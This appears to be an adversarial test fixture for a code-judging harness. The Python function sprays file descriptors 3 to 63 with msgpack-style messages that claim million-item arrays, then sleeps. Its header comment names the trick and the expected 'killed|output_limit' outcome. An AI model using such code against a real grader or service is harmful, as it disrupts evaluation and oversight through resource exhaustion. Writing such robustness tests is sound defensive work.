# ruff: noqa
# Trick: sends the judge arrays that claim a million items each
# Outcome: killed|output_limit

import os
import struct
import time


def f():
    body = bytes([0x94, 0xA5]) + b"value" + bytes([0xDD, 0, 0x0F, 0xFF, 0xFF]) * 200_000
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("<I", len(body)) + body)
        except OSError:
            continue
    time.sleep(100)
